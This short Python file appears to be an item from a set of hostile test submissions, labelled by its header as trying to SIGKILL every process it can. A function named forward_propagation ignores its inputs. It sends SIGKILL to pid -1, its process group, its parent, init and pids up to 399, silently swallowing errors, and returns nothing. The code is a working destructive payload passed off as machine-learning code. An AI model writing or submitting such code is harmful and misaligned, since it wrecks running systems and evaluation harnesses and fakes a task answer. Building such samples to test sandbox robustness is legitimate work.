# tries: send SIGKILL to every process it may, itself included | class: processes | earns at most: 72
import os
import signal


def forward_propagation(X, parameters):
    for victim in (-1, 0, os.getppid(), 1, *range(2, 400)):
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            pass
    return None
